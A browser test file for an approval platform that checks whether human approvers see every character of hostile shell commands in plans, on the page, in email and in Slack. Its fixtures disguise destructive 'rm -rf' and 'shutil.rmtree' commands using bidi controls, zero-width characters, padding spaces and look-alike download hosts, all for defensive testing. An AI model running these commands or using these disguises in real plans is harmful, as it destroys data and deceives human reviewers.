/// <reference lib="dom" />
/**
 * Hostile plans through `plangate serve`'s platform (Plans API → compiled gate → approvals API,
 * the local mail sink, the Slack message), read in real Chromium at 1280 and 375 px: every
 * character of every command that runs is visible on the page and in the email's HTML part
 * (bidirectional controls, zero-width characters, 3,000 spaces: each as a labelled symbol, every
 * command wrapped inside its box), in the email's text part and in the Slack blocks; look-alike
 * hosts are marked; a view too large for the gate says which commands it leaves out (email, Slack),
 * while the page shows every character of every command across its pages and approves once all were read.
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalHostedUi } from '../../lib/aws-local/api-gateway/hosted-ui.ts';
import { LocalIssuer } from '../../lib/aws-local/api-gateway/local-issuer.ts';
import { signedFetch } from '../../lib/aws-local/api-gateway/signed-fetch.ts';
import { visibleText } from '../../lib/plan/visible-text.ts';
import { LinkSigner } from '../../lib/runtime/gate/links.ts';
import { approvalMessage } from '../../lib/runtime/notify/message.ts';
import type { ApprovalNotice } from '../../lib/runtime/payloads/index.ts';
import { LocalPlatform } from '../../lib/serve/platform.ts';
import { loadSigningKey, storePaths } from '../../lib/serve/store-directory.ts';

const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((path) => existsSync(path));
if (!CHROMIUM) process.stdout.write('hostile view browser tests skipped: no Chromium at /usr/bin/chromium\n');

const SUBMITTER = {
  accessKeyId: 'AKIDHOSTILE',
  secretAccessKey: 'hostile-secret-0123456789',
  arn: 'arn:aws:iam::123456789012:user/submitter',
};
const APPROVER = 'ana@example.test';
const CLIENT_ID = 'plangate-approval-page';
const VIEWPORTS = [
  { width: 1280, height: 900 },
  { width: 375, height: 740 },
] as const;

/** Where the screenshots go, for a person to look at. */
const SCREENSHOTS =
  process.env.PLANGATE_SCREENSHOT_DIR ?? join(tmpdir(), 'plangate-hostile-view-screenshots');

/** What must never reach a reader (written out independently of lib/plan/visible-text.ts). */
const INVISIBLE = /(?![\n\t ])(?:[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Zs}\p{Co}\p{Cn}]|[\ufe00-\ufe0f])/u;

const check = { kind: 'command', command: 'true' } as const;

/** The commands of the issue: each hides what it runs from a reader who sees it as text. */
const HOSTILE_STEPS = [
  {
    id: 'bidi',
    description: 'Say we are cleaning up',
    // Isolates reorder it: a browser shows `echo 'Cleaning up; taskset -c 0 rm -rf ../x #'`.
    command: "echo '\u2067Cleaning up; \u2066taskset -c 0 rm -rf ../x #\u2069\u2069'",
    hidden: ['U+2067 RLI', 'U+2066 LRI', 'U+2069 PDI'],
  },
  {
    id: 'zero-width',
    description: 'List the build',
    command: 'ls\u200b ./build\u200d \u200e\u200f\u061c\u2028# \u2060\ufeff\u00ad\u202e',
    hidden: ['U+200B ZWSP', 'U+200D ZWJ', 'U+200E LRM', 'U+200F RLM', 'U+061C ALM', 'U+2028 LS'],
  },
  {
    id: 'spaces',
    description: 'Say ok',
    command: `echo ok${' '.repeat(3000)}; python3 -c "import shutil; shutil.rmtree('../x')"`,
    hidden: [],
  },
  {
    id: 'look-alike',
    description: 'Fetch the installer',
    command:
      'curl -fsS https://ex\u0430mple.com/install.sh -o install.sh && curl -fsS https://xn--pple-43d.com/x -o x',
    hidden: [],
  },
] as const;

function hostilePlan() {
  return {
    id: 'hostile',
    version: 1,
    objective: 'Tidy up\u001b[2K the build',
    sizePolicy: { minSteps: 1 },
    approval: { approvers: [APPROVER], allowAutoApprove: false, timeoutSeconds: 3600 },
    steps: HOSTILE_STEPS.map((step, i) => ({
      id: step.id,
      description: step.description,
      tool: 'shell',
      args: { command: step.command },
      contract: check,
      requiresApproval: true,
      dependsOn: i > 0 ? [HOSTILE_STEPS[i - 1]?.id] : [],
    })),
  };
}

/** 112 KB of harmless text first, 60 KB of rmtree second, then a 200 KB command: more than a gate carries. */
const BIG_STEPS = [
  { id: 'harmless', command: `echo '${'a'.repeat(112 * 1024)}'` },
  { id: 'rmtree', command: `python3 -c "import shutil; shutil.rmtree('../x')" # ${'b'.repeat(60 * 1024)}` },
  { id: 'huge', command: `echo '${'c'.repeat(200 * 1000)}'` },
] as const;

function bigPlan() {
  return {
    id: 'big',
    version: 1,
    objective: 'Print and tidy',
    sizePolicy: { minSteps: 1 },
    approval: { approvers: [APPROVER], allowAutoApprove: false, timeoutSeconds: 3600 },
    steps: BIG_STEPS.map((step, i) => ({
      id: step.id,
      description: `Run the ${step.id} command`,
      tool: 'shell',
      args: { command: step.command },
      contract: check,
      // The validator refuses a destructive step without its own gate.
      ...(step.id === 'rmtree' ? { requiresApproval: true } : {}),
      dependsOn: i > 0 ? [BIG_STEPS[i - 1]?.id] : [],
    })),
  };
}

let dir: string;
let platform: LocalPlatform;
let signer: LinkSigner;
let browser: Browser;
let hostedUi: LocalHostedUi;
const gates: ApprovalNotice[] = [];
const emails = new Map<string, readonly string[]>();

async function submit(body: { readonly id: string; readonly version: number }): Promise<ApprovalNotice> {
  const response = await signedFetch(`${platform.url}/plans`, SUBMITTER, {
    method: 'POST',
    body: JSON.stringify(body),
    headers: { 'content-type': 'application/json' },
  });
  expect(response.status, await response.clone().text()).toBe(201);
  for (let i = 0; i < 800; i++) {
    const gate = gates.find((g) => g.kind === 'plan' && g.plan.id === body.id);
    if (gate) return gate;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`no gate for ${body.id}`);
}

/** The email's two parts, decoded as a mail client would. */
async function emailParts(gate: ApprovalNotice): Promise<{ text: string; html: string }> {
  const file = emails.get(gate.approvalId)?.find((f) => f.endsWith(`${APPROVER}.eml`));
  if (!file) throw new Error(`no email for ${APPROVER}`);
  const raw = await readFile(file, 'utf8');
  const boundary = /boundary="([^"]+)"/.exec(raw)?.[1] as string;
  const part = (type: string) => {
    const found = raw.split(`--${boundary}`).find((p) => p.includes(`Content-Type: ${type}`)) as string;
    const [head, body] = [
      found.slice(0, found.indexOf('\r\n\r\n')),
      found.slice(found.indexOf('\r\n\r\n') + 4),
    ];
    return /base64/i.test(head) ? Buffer.from(body, 'base64').toString('utf8') : body;
  };
  return { text: part('text/plain'), html: part('text/html') };
}

function link(gate: ApprovalNotice): string {
  return `${platform.url}/approvals/${encodeURIComponent(signer.forRecipient(gate.approvalId, gate.plan.digest, APPROVER))}`;
}

/**
 * Each command box (`pre`) of the document: its text, and whether all of it is inside the box
 * and the box inside the window (no sideways scroll, no text past its edge: element geometry).
 */
function commandBoxes(page: Page) {
  return page.evaluate(() =>
    [...document.querySelectorAll('pre')].map((pre) => {
      const box = pre.getBoundingClientRect();
      const range = document.createRange();
      range.selectNodeContents(pre);
      const inside = [...range.getClientRects()].every(
        (r) => r.left >= box.left - 1 && r.right <= box.right + 1,
      );
      return {
        text: pre.textContent ?? '',
        step: pre.closest('article')?.id ?? '',
        fits:
          inside &&
          pre.scrollWidth <= pre.clientWidth + 1 &&
          box.left >= 0 &&
          box.right <= document.documentElement.clientWidth + 1,
      };
    }),
  );
}

async function screenshot(page: Page, name: string): Promise<void> {
  await mkdir(SCREENSHOTS, { recursive: true });
  const path = join(SCREENSHOTS, `${name}.png`);
  await page.screenshot({ path, fullPage: true });
  process.stdout.write(`screenshot: ${path}\n`);
}

/** Every hostile command on a rendered document, whole, as the rule shows it, inside its box; the warnings on top. */
async function expectHostileShown(page: Page): Promise<void> {
  const boxes = await commandBoxes(page);
  for (const step of HOSTILE_STEPS) {
    const box = boxes.find((b) => b.step === `step-${step.id}` && b.text === visibleText(step.command));
    expect(box, `${step.id}: ${visibleText(step.command)}`).toBeDefined();
    expect(box?.fits, `${step.id} fits its box`).toBe(true);
  }
  for (const box of boxes) expect(box.fits, box.text.slice(0, 80)).toBe(true);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
  // What is read (form fields aside: a "Change" field holds the value to post back, as written).
  const text = await page.evaluate(() => {
    const body = document.body.cloneNode(true) as HTMLElement;
    for (const field of body.querySelectorAll('textarea, input, datalist')) field.remove();
    return body.textContent ?? '';
  });
  expect(text).not.toMatch(INVISIBLE);
  expect(text).toContain('echo ok⟨3000 spaces⟩; python3 -c "import shutil; shutil.rmtree(\'../x\')"');
  // The symbols stand out (their own spans), and the warnings come first, naming where.
  expect(await page.locator('.pg-char').count()).toBeGreaterThan(10);
  const hidden = (await page.locator('[data-warning="hidden-characters"] li').allTextContents()).join('\n');
  for (const step of HOSTILE_STEPS)
    if (step.hidden.length > 0) expect(hidden).toContain(`step ${step.id} runs: ${step.hidden.join(', ')}`);
  expect(hidden).toContain('the objective: U+001B ESC');
  expect(await page.locator('[data-warning="hidden-characters"] h2').textContent()).toBe(
    'This plan contains invisible or direction-changing characters, shown here as ⟨U+…⟩ symbols, in:',
  );
  const lookAlike = (await page.locator('[data-warning="look-alike"] li').allTextContents()).join('\n');
  expect(lookAlike).toContain(
    'step look-alike runs: `https://ex\u0430mple.com/install.sh` mixes Latin with Cyrillic letters',
  );
  expect(lookAlike).toContain('is a punycode name (shows as \u0430pple.com)');
}

/** Every string of the Slack blocks, with Slack's own entities decoded and the harness's formatting breaks removed. */
function slackStrings(blocks: readonly unknown[]): string[] {
  const out: string[] = [];
  const walk = (value: unknown) => {
    if (typeof value === 'string')
      out.push(
        value
          .replace(/\u200b(?=[*_~`])|(?<=[*_~`])\u200b/g, '')
          .replace(/&lt;/g, '<')
          .replace(/&gt;/g, '>')
          .replace(/&amp;/g, '&'),
      );
    else if (Array.isArray(value)) value.forEach(walk);
    else if (value && typeof value === 'object') Object.values(value).forEach(walk);
  };
  walk(blocks);
  return out;
}

describe.skipIf(!CHROMIUM)('hostile plans in Chromium: every character of every command is visible', () => {
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'plangate-hostile-'));
    const paths = storePaths(join(dir, 'store'));
    const issuer = new LocalIssuer();
    hostedUi = await LocalHostedUi.start({
      issuer,
      clientId: CLIENT_ID,
      users: { [APPROVER]: 'ana-pass-1' },
    });
    platform = await LocalPlatform.start({
      paths,
      cwd: dir,
      identity: {
        mode: 'aws',
        principals: [SUBMITTER],
        jwt: { issuer: issuer.issuer, audience: [CLIENT_ID], jwks: issuer.jwks },
      },
      signIn: hostedUi,
      onGate: (n, _link, written) => {
        emails.set(n.approvalId, written);
        gates.push(n);
      },
      mailDir: join(dir, 'mail'),
    });
    signer = new LinkSigner(await loadSigningKey(paths));
    browser = await chromium.launch({
      executablePath: CHROMIUM as string,
      args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
    });
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await platform?.close();
    await hostedUi?.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('bidi, zero-width, 3,000 spaces and a look-alike host: on the page, in both email parts and in Slack', async () => {
    const gate = await submit(hostilePlan());
    const { text, html } = await emailParts(gate);
    for (const viewport of VIEWPORTS) {
      const context = await browser.newContext({ viewport, isMobile: viewport.width < 500 });
      const page = await context.newPage();
      await page.goto(link(gate));
      await page.getByRole('heading', { name: 'Approve this plan?' }).waitFor({ timeout: 10_000 });
      await expectHostileShown(page);
      await screenshot(page, `hostile-page-${viewport.width}`);
      // The email's HTML part, as a mail client renders it.
      const mail = await context.newPage();
      await mail.setContent(html);
      await expectHostileShown(mail);
      // Laid out at the screen's width, not a desktop page shrunk onto the phone.
      expect(await mail.evaluate(() => window.innerWidth)).toBe(viewport.width);
      await screenshot(mail, `hostile-email-${viewport.width}`);
      await context.close();
    }
    // The email's text part: no raw control character (the objective's ESC included), every command whole.
    expect(text).not.toMatch(INVISIBLE);
    expect(text).toContain('Objective: Tidy up⟨U+001B ESC⟩[2K the build');
    for (const step of HOSTILE_STEPS) expect(text).toContain(visibleText(step.command));
    expect(text).toContain('!! This plan contains invisible or direction-changing characters');
    // Slack: every command whole (nothing needed cutting) and no hidden character in any block.
    const message = approvalMessage(gate, platform.url);
    const strings = slackStrings(message.slackBlocks);
    for (const s of strings) expect(s).not.toMatch(INVISIBLE);
    const all = strings.join('\n');
    for (const step of HOSTILE_STEPS) expect(all).toContain(visibleText(step.command));
    expect(all).toContain('step bidi runs: U+2067 RLI, U+2066 LRI, U+2069 PDI');
    expect(all).not.toContain('Slack cut this message');
  }, 120_000);

  it('112 KB harmless, 60 KB rmtree, 200 KB: the page shows every character across its pages, the other channels name what they cannot show', async () => {
    const gate = await submit(bigPlan());
    for (const [v, viewport] of VIEWPORTS.entries()) {
      const context = await browser.newContext({ viewport, isMobile: viewport.width < 500 });
      const page = await context.newPage();
      await page.goto(link(gate));
      await page.getByRole('heading', { name: 'Approve this plan?' }).waitFor({ timeout: 20_000 });
      // The page's own view is whole: no "not shown" warning, and Approve waits for every page.
      expect(await page.locator('[data-warning="hidden-commands"]').count()).toBe(0);
      if (v === 0) {
        // An APPROVE posted before every page was read is refused by the approvals API.
        expect(await page.getByRole('button', { name: 'Approve', exact: true }).count()).toBe(0);
        const answered = page.waitForResponse((r) => r.request().method() === 'POST', { timeout: 60_000 });
        await page.evaluate(() => {
          const form = document.getElementById('plangate-answer') as HTMLFormElement;
          const forged = document.createElement('button');
          forged.name = 'decision';
          forged.value = 'APPROVE';
          forged.textContent = 'forged';
          form.append(forged);
          forged.click();
        });
        expect((await answered).status()).toBe(400);
        await page.getByText(/has not shown you every page of the plan/i).waitFor({ timeout: 10_000 });
        await screenshot(page, `big-refused-${viewport.width}`);
        await page.goto(link(gate));
      }
      // Page by page, as a reader goes: every command box whole inside the window, its text
      // visible (innerText: what is rendered, not just what is in the document).
      const seen = new Map<string, string>();
      for (let n = 1; ; n++) {
        await page.locator('#plangate-steps').waitFor({ timeout: 20_000 });
        const boxes = await commandBoxes(page);
        for (const box of boxes) expect(box.fits, box.text.slice(0, 80)).toBe(true);
        expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(
          true,
        );
        const shown = await page.evaluate(() =>
          [...document.querySelectorAll('article.pg-step')].map((card) => ({
            id: card.id,
            // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what is checked
            text: (card.querySelector('.pg-call pre') as HTMLElement | null)?.innerText ?? '',
          })),
        );
        for (const card of shown) seen.set(card.id, card.text);
        await screenshot(page, `big-page-${viewport.width}-${n}`);
        const next = page.locator('nav.pg-pages').first().locator('a.pg-next');
        if ((await next.count()) === 0) break;
        await Promise.all([page.waitForURL(/page=/), next.click()]);
      }
      for (const step of BIG_STEPS) expect(seen.get(`step-${step.id}`) === step.command, step.id).toBe(true);
      // Every page read: Approve is offered; the last viewport approves.
      const approve = page.getByRole('button', { name: 'Approve', exact: true });
      expect(await approve.count()).toBe(1);
      if (v === VIEWPORTS.length - 1) {
        await approve.click();
        await page
          .getByText(/recorded|approved/i)
          .first()
          .waitFor({ timeout: 20_000 });
        await screenshot(page, `big-approved-${viewport.width}`);
      }
      await context.close();
    }
    const { text } = await emailParts(gate);
    expect(text).toMatch(/^!! This view does not show every command that runs/m);
    expect(text).toMatch(/the commands of steps? [^\n]*huge/);
    // Slack names what it cut, exactly, and offers no Approve: the page is where the gate is read.
    const message = approvalMessage(gate, platform.url);
    const all = slackStrings(message.slackBlocks).join('\n');
    expect(all).toMatch(/Slack cut this message:\* step rmtree runs: \d+ of \d+ characters shown/);
    expect(all).toContain('This view does not show every command that runs');
    const actions = message.slackBlocks.at(-1) as { elements: { action_id: string }[] };
    expect(actions.elements.map((e) => e.action_id)).not.toContain('plangate.APPROVE');
    expect(actions.elements.map((e) => e.action_id)).toContain('plangate.page');
  }, 180_000);
});
